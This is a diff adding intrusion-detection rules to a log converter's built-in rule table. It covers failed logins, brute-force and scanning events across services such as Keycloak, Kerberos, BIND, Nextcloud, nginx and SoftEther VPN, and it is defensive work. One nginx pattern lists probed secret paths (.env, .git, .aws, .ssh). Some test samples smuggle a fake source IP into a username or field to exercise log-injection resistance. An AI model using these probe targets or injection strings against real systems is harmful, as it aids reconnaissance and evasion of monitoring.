+              ],
+              "Priority": "Medium",
+              "CreateTime": "2019-06-01T12:00:00.123Z"
+            }
+          },
+          {
+            "line": "2023-01-10 12:00:00,123 WARN  [org.keycloak.events] (executor-thread-3) type=\"LOGIN_ERROR\", realmId=\"1b2c\", realmName=\"demo\", clientId=\"account-console\", userId=\"9f1e\", ipAddress=\"192.0.2.216\", error=\"invalid_user_credentials\", auth_method=\"openid-connect\", auth_type=\"code\", redirect_uri=\"https://kc.example.org/x\", code_id=\"a1\", username=\"bob\", authSessionParentId=\"a1\", authSessionTabId=\"t1\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.216"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob"
+                }
+              ]
+            }
+          },
+          {
+            "line": "12:00:00,123 WARN  [org.keycloak.events] (default task-2) type=LOGIN_ERROR, realmId=master, clientId=x, ipAddress=6.6.6.6, userId=null, ipAddress=192.0.2.217, error=user_not_found, username=eve",
+            "expect": null
+          },
+          {
+            "line": "2023-01-10 12:00:01,000 INFO  [org.keycloak.events] (executor-thread-3) type=\"LOGIN\", realmId=\"1b2c\", clientId=\"account-console\", userId=\"9f1e\", ipAddress=\"192.0.2.216\", auth_method=\"openid-connect\", username=\"bob\"",
+            "expect": null
+          },
+          {
+            "line": "2023-01-10 12:00:02,000 WARN  [org.keycloak.events] (executor-thread-3) type=\"LOGIN_ERROR\", realmId=\"1b2c\", clientId=\"account-console\", userId=\"null\", ipAddress=\"192.0.2.216\", error=\"expired_code\", restart_after_timeout=\"true\"",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "keycloak",
+      "description": "Keycloak server log (event logger)",
+      "lines": [
+        {
+          "prefix": "^(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d(?:,\\d{1,3})?) {1,2}[A-Z]{4,5} {1,2}\\[org\\.keycloak\\.events\\] \\([^)]{1,100}\\) ",
+          "time": "YYYY-MM-DD hh:mm:ss[,f]"
+        },
+        {
+          "prefix": "^\\d\\d:\\d\\d:\\d\\d(?:,\\d{1,3})? {1,2}[A-Z]{4,5} {1,2}\\[org\\.keycloak\\.events\\] \\([^)]{1,100}\\) "
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-krb5kdc.yaml",
+    "rules": [
+      {
+        "id": "krb5kdc.as-req-failed",
+        "programs": [
+          "krb5kdc"
+        ],
+        "requires": "AS_REQ (",
+        "pattern": "^AS_REQ \\(\\d{1,3} etypes \\{[^{}]{0,800}\\}\\) (?<ip>[0-9A-Fa-f:.]{2,45}): (?<status>PREAUTH_FAILED|CLIENT_NOT_FOUND|LOCKED_OUT|CLIENT_LOCKED_OUT|KDC_ERR_PREAUTH_FAILED): (?<client>[^\\s]{0,512}) for ",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Kerberos AS request for {client} from {ip} refused ({status})",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{client}",
+          "service": "kerberos"
+        },
+        "samples": [
+          {
+            "line": "Jan 01 12:00:01 kdc krb5kdc[123](info): AS_REQ (4 etypes {18 17 16 23}) 192.0.2.96: PREAUTH_FAILED: bob@EXAMPLE.COM for krbtgt/EXAMPLE.COM@EXAMPLE.COM, Preauthentication failed",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "Source": [
+                {
+                  "IP": "192.0.2.96"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob@EXAMPLE.COM",
+                  "Service": "kerberos"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan  1 12:00:00 kdc krb5kdc[123]: AS_REQ (2 etypes {aes256-cts-hmac-sha1-96(18), aes128-cts-hmac-sha1-96(17)}) 192.0.2.95: CLIENT_NOT_FOUND: admin@EXAMPLE.COM for krbtgt/EXAMPLE.COM@EXAMPLE.COM, Client not found in Kerberos database",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.95"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Jan 01 12:00:02 kdc krb5kdc[123](info): AS_REQ (4 etypes {18 17 16 23}) 192.0.2.97: NEEDED_PREAUTH: bob@EXAMPLE.COM for krbtgt/EXAMPLE.COM@EXAMPLE.COM, Additional pre-authentication required",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "krb5kdc",
+      "aliases": [
+        "kerberos",
+        "mit-kdc"
+      ],
+      "description": "MIT krb5kdc log file",
+      "syslogTags": [
+        "krb5kdc"
+      ],
+      "lines": [
+        {
+          "prefix": "^(?<time>[A-Z][a-z]{2} [ \\d]\\d \\d\\d:\\d\\d:\\d\\d) (?<host>[^\\s\\[\\]]{1,255}) krb5kdc\\[(?<pid>\\d{1,10})\\]\\((?:info|notice|warning|error|err|debug|crit|alert|emerg)\\): ",
+          "time": "MMM D hh:mm:ss"
+        }
+      ]
+    }
+  },
+  {
     "file": "src/converters/syslog/rules/applog-lighttpd.yaml",
     "rules": [
       {
@@ -2813,6 +4026,138 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         },
         {
           "prefix": "^(?<time>\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,6})?(?:Z|[+-]\\d\\d:?\\d\\d)?) (?=[FEWID]\\d? )"
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-monitorix.yaml",
+    "rules": [
+      {
+        "id": "monitorix.auth-error",
+        "programs": [
+          "monitorix"
+        ],
+        "pattern": "^AUTHERR - \\[(?<ip>[0-9A-Fa-f:.]{2,45})\\] Authentication error: (?<url>\\S{0,2048})",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Low",
+        "description": "Monitorix refused HTTP authentication from {ip} for {url}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "monitorix"
+        },
+        "samples": [
+          {
+            "line": "Thu Jun 13 10:00:00 2019 - AUTHERR - [192.0.2.190] Authentication error: /monitorix",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.190"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Low",
+              "CreateTime": "2019-06-13T10:00:00Z"
+            }
+          },
+          {
+            "line": "Thu Jun  6 10:00:00 2019 - OK - [192.0.2.190] \"GET /monitorix - Mozilla/5.0\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "monitorix.not-allowed",
+        "programs": [
+          "monitorix"
+        ],
+        "pattern": "^NOTALLOWED - \\[(?<ip>[0-9A-Fa-f:.]{2,45})\\] Access not allowed: (?<url>\\S{0,2048})",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Low",
+        "description": "Monitorix refused {ip} (hosts_deny) for {url}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "monitorix"
+        },
+        "samples": [
+          {
+            "line": "Thu Jun 13 10:00:00 2019 - NOTALLOWED - [192.0.2.191] Access not allowed: /monitorix",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.191"
+                }
+              ],
+              "Category": [
+                "Access.Unauthorized"
+              ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "monitorix.not-found",
+        "programs": [
+          "monitorix"
+        ],
+        "pattern": "^(?:NOTEXIST|ERROR) - \\[(?<ip>[0-9A-Fa-f:.]{2,45})\\] File does not exist: (?<url>\\S{0,2048})",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "HTTP probe from {ip} on Monitorix for {url}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "monitorix"
+        },
+        "samples": [
+          {
+            "line": "Thu Jun 13 10:00:00 2019 - NOTEXIST - [192.0.2.192] File does not exist: /manager/html",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.192"
+                }
+              ],
+              "Category": [
+                "Recon.Network"
+              ]
+            }
+          },
+          {
+            "line": "Sun Mar  3 09:00:00 2013 - ERROR - [2001:db8::193] File does not exist: /phpmyadmin/",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::193"
+                }
+              ]
+            }
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "monitorix",
+      "aliases": [
+        "monitorix-httpd"
+      ],
+      "description": "Monitorix built-in HTTP server log",
+      "lines": [
+        {
+          "prefix": "^(?<time>[A-Z][a-z]{2} [A-Z][a-z]{2} [ \\d]\\d \\d\\d:\\d\\d:\\d\\d \\d{4}) - (?=[A-Z]{2,12} - \\[)"
         }
       ]
     }
@@ -3026,6 +4371,90 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             }
           }
         ]
+      },
+      {
+        "id": "named.query-refused",
+        "programs": [
+          "named"
+        ],
+        "requires": "query failed (REFUSED)",
+        "pattern": "^(?:[a-z][a-z-]{1,24}: ){0,2}client (?:@0x[0-9A-Fa-f]{1,16} )?(?<ip>[0-9A-Fa-f:.]{2,45})#(?<port>\\d{1,5})(?: \\([^()]{0,1100}\\))?(?:: view [^:]{1,64})?: query failed \\(REFUSED\\) for (?<query>[^\\s]{0,1100}) at ",
+        "category": [
+          "Recon.Network"
+        ],
+        "priority": "Low",
+        "description": "DNS query {query} from {ip} refused",
+        "source": {
+          "address": "{ip}",
+          "port": "{port}"
+        },
+        "target": {
+          "service": "dns"
+        },
+        "samples": [
+          {
+            "line": "Dec  4 12:00:01 ns1 named[812]: query-errors: info: client @0x7f 192.0.2.10#1234 (x.org): query failed (REFUSED) for x.org/IN/ANY at query.c:5457",
+            "expect": {
+              "Priority": "Low",
+              "Source": [
+                {
+                  "IP": "192.0.2.10",
+                  "Port": [
+                    1234
+                  ]
+                }
+              ]
+            }
+          },
+          {
+            "line": "Dec  4 12:00:04 ns1 named[812]: query-errors: info: client @0x7f 192.0.2.13#1234 (x.org): query failed (SERVFAIL) for x.org/IN/A at query.c:5457",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "named.bad-signature",
+        "programs": [
+          "named"
+        ],
+        "pattern": "^(?:[a-z][a-z-]{1,24}: ){0,2}client (?:@0x[0-9A-Fa-f]{1,16} )?(?<ip>[0-9A-Fa-f:.]{2,45})#(?<port>\\d{1,5})(?:/key [^\\s:]{1,255})?(?: \\([^()]{0,1100}\\))?(?:: view [^:]{1,64})?: (?<what>request has invalid signature: .{0,200}|signer \"[^\"]{0,255}\" denied)$",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Low",
+        "description": "DNS request from {ip} refused: {what}",
+        "source": {
+          "address": "{ip}",
+          "port": "{port}"
+        },
+        "target": {
+          "service": "dns"
+        },
+        "samples": [
+          {
+            "line": "04-Dec-2026 12:00:02.123 client @0x7f 192.0.2.11#1234: request has invalid signature: TSIG k: tsig verify failure (BADKEY)",
+            "expect": {
+              "Category": [
+                "Access.Unauthorized"
+              ],
+              "Source": [
+                {
+                  "IP": "192.0.2.11"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Dec  4 12:00:03 ns1 named[812]: update-security: error: client @0x7f 192.0.2.12#1234/key k: signer \"k\" denied",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.12"
+                }
+              ]
+            }
+          }
+        ]
       }
     ],
     "logformat": {
@@ -3041,6 +4470,9 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       "lines": [
         {
           "prefix": "^(?<time>\\d\\d-[A-Z][a-z]{2}-\\d{4} \\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,3})?) "
+        },
+        {
+          "prefix": "^(?<time>\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(?:\\.\\d{1,3})?(?:Z|[+-]\\d\\d:?\\d\\d)?) (?=(?:[a-z][a-z0-9_-]{1,24}: )?(?:info|notice|warning|error|critical|debug(?: \\d{1,2})?|dynamic): |client )"
         }
       ]
     }
@@ -3105,8 +4537,59 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
             }
           },
           {
+            "line": "{\"reqId\":\"VYSnI1gFoYMAABxTXZgAAAAB\",\"remoteAddr\":\"192.0.2.183\",\"app\":\"core\",\"message\":\"Login failed: 'admin' (Remote IP: '192.0.2.183', X-Forwarded-For: '')\",\"level\":2,\"time\":\"2015-06-20T10:00:00+00:00\"}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.183"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin"
+                }
+              ],
+              "CreateTime": "2015-06-20T10:00:00+00:00"
+            }
+          },
+          {
             "line": "{\"reqId\":\"a\",\"level\":1,\"time\":\"2023-01-10T12:00:00+00:00\",\"remoteAddr\":\"192.0.2.182\",\"user\":\"alice\",\"app\":\"core\",\"method\":\"GET\",\"url\":\"/\",\"message\":\"Login successful\",\"userAgent\":\"x\",\"version\":\"25.0.2.3\"}",
             "expect": null
+          }
+        ]
+      },
+      {
+        "id": "nextcloud.bruteforce-attempt",
+        "programs": [
+          "nextcloud"
+        ],
+        "requires": "Bruteforce attempt from ",
+        "pattern": "^\\{(?:\"[A-Za-z_]{1,40}\":(?:\"(?:[^\"\\\\]|\\\\.){0,2048}\"|[^,\"{}\\[\\]]{0,64}),){0,14}?\"message\":\"Bruteforce attempt from \\\\\"(?<ip>[0-9A-Fa-f:.]{2,45})\\\\\" detected for action \\\\\"(?<action>[A-Za-z0-9_:.-]{1,64})\\\\\"\\.",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Low",
+        "description": "Nextcloud throttles {ip}: brute-force attempt on {action}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "nextcloud"
+        },
+        "samples": [
+          {
+            "line": "{\"reqId\":\"YzB1cH8AAAEAAAhgx5sAAAAC\",\"level\":1,\"time\":\"2023-01-10T12:00:01+00:00\",\"remoteAddr\":\"192.0.2.184\",\"user\":\"--\",\"app\":\"core\",\"method\":\"POST\",\"url\":\"/login\",\"message\":\"Bruteforce attempt from \\\"192.0.2.184\\\" detected for action \\\"login\\\".\",\"userAgent\":\"Mozilla/5.0\",\"version\":\"25.0.2.3\"}",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.184"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Low"
+            }
           }
         ]
       }
@@ -3120,6 +4603,9 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       "lines": [
         {
           "prefix": "^(?=\\{\"reqId\":\"[^\"]{1,64}\",\"level\":\\d,\"time\":\"(?<time>[^\"]{10,40})\")"
+        },
+        {
+          "prefix": "^(?=\\{\"reqId\":\"[^\"]{1,64}\",\"(?:remoteAddr|user|app)\":[^\\n]{0,8192}?[^\\\\]\",\"level\":\\d,\"time\":\"(?<time>[^\"]{10,40})\")"
         }
       ]
     }
@@ -3251,7 +4737,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "nginx"
         ],
-        "pattern": "^limiting (?<what>requests|connections)(?:, excess: [0-9.]{1,20})? by zone \"(?<zone>[^\"]{0,128})\", client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
+        "pattern": "^limiting (?<what>requests|connections)(?:, dry run,?)?(?:, excess: [0-9.]{1,20})? by zone \"(?<zone>[^\"]{0,128})\", client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
         "category": [
           "Availability.DoS"
         ],
@@ -3283,6 +4769,26 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               "Source": [
                 {
                   "IP": "192.0.2.46"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2020/01/20 13:09:12 [error] 7452#0: *1 limiting requests, dry run, excess: 1.000 by zone \"one\", client: 192.0.2.53, server: example.com, request: \"POST /login HTTP/1.1\", host: \"example.com\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.53"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2020/01/20 13:09:12 [error] 7452#0: *1 limiting connections, dry run, by zone \"addr\", client: 2001:db8::53, server: example.com, request: \"GET / HTTP/1.1\", host: \"example.com\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::53"
                 }
               ]
             }
@@ -3331,7 +4837,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "nginx"
         ],
-        "pattern": "^(?:open\\(\\) \"(?<path>[^\"]{0,2048}(?:\\.(?:php[0-9]?|asp|aspx|jsp|cgi|pl|exe|dll|sh|env|git|bak|sql|ini)|/(?:wp-login\\.php|wp-admin|xmlrpc\\.php|phpmyadmin|phpMyAdmin|pma|myadmin|mysqladmin|admin|administrator|manager|cgi-bin|\\.env|\\.git|HNAP1|boaform|shell|setup\\.php)[^\"]{0,512}))\" failed \\(2: No such file or directory\\)|\"(?<index>[^\"]{0,2048}\\.php)\" is not found \\(2: No such file or directory\\)|FastCGI sent in stderr: \"Primary script unknown\" while reading response header from upstream), client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
+        "pattern": "^(?:open\\(\\) \"(?<path>[^\"]{0,2048}(?:\\.(?:php[0-9]?|asp|aspx|jsp|cgi|pl|exe|dll|sh|env|git|bak|sql|ini)|/(?:wp-login\\.php|wp-admin|wp-content|wp-includes|wordpress|xmlrpc\\.php|phpmyadmin|phpMyAdmin|PhpMyAdmin|phpMyadmin|phpadmin|PMA|pma|myadmin|MyAdmin|mysqladmin|mysql|sqladmin|sqlmanager|websql|dbadmin|admin|administrator|manager|joomla|cgi-bin|xampp|webdav|vtigercrm|muieblackcat|w00tw00t|jmx-console|web-console|invoker|solr|actuator|\\.env|\\.git|\\.svn|\\.aws|\\.ssh|\\.DS_Store|HNAP1|boaform|GponForm|shell|setup\\.php)[^\"]{0,512}))\" failed \\(2: No such file or directory\\)|\"(?<index>[^\"]{0,2048}\\.php)\" is not found \\(2: No such file or directory\\)|FastCGI sent in stderr: \"Primary script unknown\" while reading response header from upstream), client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
         "category": [
           "Recon.Network"
         ],
@@ -3369,6 +4875,20 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
           },
           {
             "line": "2013/08/28 23:44:32 [error] 5678#0: *9 open() \"/usr/share/nginx/html/favicon.ico\" failed (2: No such file or directory), client: 192.0.2.51, server: localhost, request: \"GET /favicon.ico HTTP/1.1\", host: \"example.org\"",
+            "expect": null
+          },
+          {
+            "line": "2013/08/28 23:44:32 [error] 5678#0: *9 open() \"/usr/share/nginx/html/wp-content/plugins/wp-file-manager/readme.txt\" failed (2: No such file or directory), client: 192.0.2.54, server: localhost, request: \"GET /wp-content/plugins/wp-file-manager/readme.txt HTTP/1.1\", host: \"example.org\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.54"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2013/08/28 23:44:32 [error] 5678#0: *9 open() \"/usr/share/nginx/html/robots.txt\" failed (2: No such file or directory), client: 192.0.2.55, server: localhost, request: \"GET /robots.txt HTTP/1.1\", host: \"example.org\"",
             "expect": null
           }
         ]
@@ -3508,6 +5028,93 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         },
         {
           "prefix": "^(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d) (?:us=\\d{1,6} )?(?!\\S{1,255} [A-Za-z0-9_./-]{1,64}(?:\\[\\d{1,10}\\])?: )"
+        },
+        {
+          "prefix": "^(?=(?:[^\\s/]{1,64}/)?(?:\\[AF_INET6?\\])?[0-9A-Fa-f:.]{2,45}:\\d{1,5} \\S|(?:OpenVPN \\d|TLS Error: |TLS Auth Error: |TLS_ERROR: |VERIFY |Authenticate/Decrypt packet error|AUTH-PAM: |PLUGIN_CALL: |WARNING: |NOTE: |MULTI|Initialization Sequence Completed|UDPv[46]|TCPv[46]|TUN/TAP|Control Channel|Data Channel|Outgoing |Incoming |Diffie-Hellman|Listening for incoming|[UG]ID set to|IFCONFIG POOL|ifconfig_pool_set|Socket Buffers|library versions|SIG(?:TERM|USR1|USR2|HUP|INT)|Closing TUN/TAP|net_|/sbin/ip |do_ifconfig|Exiting due to|Could not determine IPv4/IPv6 protocol))"
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-openwebmail.yaml",
+    "rules": [
+      {
+        "id": "openwebmail.login-error",
+        "programs": [
+          "openwebmail"
+        ],
+        "requires": " - login error - ",
+        "pattern": "^\\((?<ip>[0-9A-Fa-f:.]{2,45})\\) (?<who>.{0,256}?) - login error - (?:no such user - loginname=(?<user>.{0,256})|(?<what>root login attempt|[A-Za-z0-9_.-]{1,64}, ret -?\\d{1,3}))",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Open WebMail login error from {ip} (logged as {who}): {what}{user}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "openwebmail"
+        },
+        "samples": [
+          {
+            "line": "Fri Sep 20 10:36:17 2013 - [12354] (192.0.2.195) bob - login error - auth_unix.pl, ret -4, username/password incorrect",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.195"
+                }
+              ],
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "CreateTime": "2013-09-20T10:36:17Z"
+            }
+          },
+          {
+            "line": "Fri Sep 20 10:36:18 2013 - [12355] (192.0.2.196) UNKNOWNUSER - login error - no such user - loginname=admin",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.196"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "admin",
+                  "Service": "openwebmail"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Fri Sep 20 10:36:19 2013 - [12356] (192.0.2.197) root - login error - root login attempt",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.197"
+                }
+              ]
+            }
+          },
+          {
+            "line": "Fri Sep 20 10:36:20 2013 - [12357] (192.0.2.198) bob - login - bob*example.org-session-0.123 - active=1,1,1",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "openwebmail",
+      "aliases": [
+        "owm"
+      ],
+      "description": "Open WebMail log file",
+      "lines": [
+        {
+          "prefix": "^(?<time>[A-Z][a-z]{2} [A-Z][a-z]{2} [ \\d]\\d \\d\\d:\\d\\d:\\d\\d \\d{4}) - \\[(?<pid>\\d{1,10})\\] (?=\\()"
         }
       ]
     }
@@ -3523,7 +5130,47 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
   },
   {
     "file": "src/converters/syslog/rules/applog-proftpd.yaml",
-    "rules": [],
+    "rules": [
+      {
+        "id": "proftpd.extlog-pass-refused",
+        "programs": [
+          "proftpd"
+        ],
+        "requires": "\"PASS ",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) \"PASS [^\"]{0,64}\" 530$",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "FTP password refused for a login from {ip} (ProFTPD ExtendedLog)",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "ftp"
+        },
+        "samples": [
+          {
+            "line": "ftp.example.com [1234] 192.0.2.21 [01/Jan/2024:12:00:12 +0000] \"PASS (hidden)\" 530",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "Source": [
+                {
+                  "IP": "192.0.2.21"
+                }
+              ]
+            }
+          },
+          {
+            "line": "ftp.example.com [1234] 192.0.2.22 [01/Jan/2024:12:00:13 +0000] \"PASS (hidden)\" 230",
+            "expect": null
+          }
+        ]
+      }
+    ],
     "logformat": {
       "program": "proftpd",
       "description": "ProFTPD SystemLog",
@@ -3533,6 +5180,75 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       "lines": [
         {
           "prefix": "^(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d(?:,\\d{3})?) (?<host>[^ ]{1,255}) proftpd\\[(?<pid>\\d{1,10})\\]:? "
+        },
+        {
+          "prefix": "^(?<vhost>[^\\s\\[\\]]{1,255}) \\[(?<pid>\\d{1,10})\\] (?<client>[0-9A-Fa-f:.]{2,45}) \\[(?<time>\\d\\d/[A-Z][a-z]{2}/\\d{4}:\\d\\d:\\d\\d:\\d\\d [+-]\\d{4})\\] (?=\")",
+          "time": "DD/MMM/YYYY:hh:mm:ss Z",
+          "message": "{client} "
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-pveproxy.yaml",
+    "rules": [
+      {
+        "id": "pveproxy.login-failed",
+        "programs": [
+          "pveproxy"
+        ],
+        "requires": "/access/ticket",
+        "pattern": "^(?<ip>[0-9A-Fa-f:.]{2,45}) - [^\\s\\[\\]]{1,128} \\[[^\\]]{1,40}\\] \"POST /api2/(?:json|extjs)/access/ticket(?:\\?[^\\s\"]{0,200})? HTTP/[0-9.]{1,3}\" 401 ",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "Proxmox VE login refused for {ip}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "proxmox"
+        },
+        "samples": [
+          {
+            "line": "::ffff:192.0.2.120 - - [01/01/2024:12:00:00 +0100] \"POST /api2/json/access/ticket HTTP/1.1\" 401 -",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "Source": [
+                {
+                  "IP": "192.0.2.120"
+                }
+              ],
+              "Target": [
+                {
+                  "Service": "proxmox"
+                }
+              ]
+            }
+          },
+          {
+            "line": "::ffff:192.0.2.121 - root@pam [01/01/2024:12:00:01 +0100] \"POST /api2/json/access/ticket HTTP/1.1\" 200 1234",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "pveproxy",
+      "aliases": [
+        "proxmox-access",
+        "pmgproxy",
+        "spiceproxy"
+      ],
+      "description": "Proxmox pveproxy access.log",
+      "lines": [
+        {
+          "prefix": "^(?=[0-9A-Fa-f:.]{2,45} - [^\\s\\[\\]]{1,128} \\[(?<time>\\d\\d/\\d\\d/\\d{4}:\\d\\d:\\d\\d:\\d\\d [+-]\\d{4})\\] \")",
+          "time": "DD/MM/YYYY:hh:mm:ss Z"
         }
       ]
     }
@@ -3553,6 +5269,94 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
       "lines": [
         {
           "prefix": "^\\[(?<time>(?:\\d{1,2}-[A-Z][a-z]{2}-\\d{4}|\\d{4}-\\d\\d-\\d\\d) \\d\\d:\\d\\d:\\d\\d(?: [A-Za-z0-9_/+:-]{1,40})?)\\]:? "
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-slapd.yaml",
+    "rules": [],
+    "logformat": {
+      "program": "slapd",
+      "description": "OpenLDAP slapd log file (2.6 logfile)",
+      "lines": [
+        {
+          "prefix": "^[0-9a-f]{8}\\.[0-9a-f]{8} (?<pid>0)x[0-9a-f]{1,16} (?=conn=)"
+        }
+      ]
+    }
+  },
+  {
+    "file": "src/converters/syslog/rules/applog-softether.yaml",
+    "rules": [
+      {
+        "id": "softether.auth-failed",
+        "programs": [
+          "softether"
+        ],
+        "requires": ": User authentication failed. The user name that has been provided was \"",
+        "pattern": "^Connection \"(?<conn>[^\"]{1,64})\": User authentication failed\\. The user name that has been provided was \"(?<user>.{0,256})\", from (?<ip>[0-9A-Fa-f:.]{2,45})\\.$",
+        "category": [
+          "Access.Forced"
+        ],
+        "priority": "Medium",
+        "description": "SoftEther VPN login as {user} failed from {ip}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "user": "{user}",
+          "service": "vpn"
+        },
+        "samples": [
+          {
+            "line": "2024-01-01 12:00:00.123 [HUB \"VPN\"] Connection \"CID-123\": User authentication failed. The user name that has been provided was \"bob\", from 192.0.2.70.",
+            "expect": {
+              "Category": [
+                "Access.Forced"
+              ],
+              "Priority": "Medium",
+              "Source": [
+                {
+                  "IP": "192.0.2.70"
+                }
+              ],
+              "Target": [
+                {
+                  "User": "bob",
+                  "Service": "vpn"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024-01-01 12:00:00.123 Connection \"CID-124\": User authentication failed. The user name that has been provided was \"x\", from 6.6.6.6.\", from 192.0.2.71.",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.71"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024-01-01 12:00:01.123 [HUB \"VPN\"] Connection \"CID-125\": Successfully authenticated as user \"bob\".",
+            "expect": null
+          }
+        ]
+      }
+    ],
+    "logformat": {
+      "program": "softether",
+      "aliases": [
+        "softethervpn",
+        "vpnserver"
+      ],
+      "description": "SoftEther VPN Server log",
+      "lines": [
+        {
+          "prefix": "^(?<time>\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d\\.\\d{3}) (?:\\[HUB \"[^\"]{1,64}\"\\] )?(?=(?:Connection|Session) \")",
+          "time": "YYYY-MM-DD hh:mm:ss.f"
         }
       ]
     }
@@ -3688,6 +5492,231 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
     }
   },
   {
+    "file": "src/converters/syslog/rules/applog-sshd.yaml",
+    "rules": [],
+    "logformat": {
+      "program": "sshd",
+      "aliases": [
+        "sshd-session",
+        "openssh"
+      ],
+      "description": "sshd -E log file (bare messages)",
+      "fallback": true,
+      "lines": [
+        {
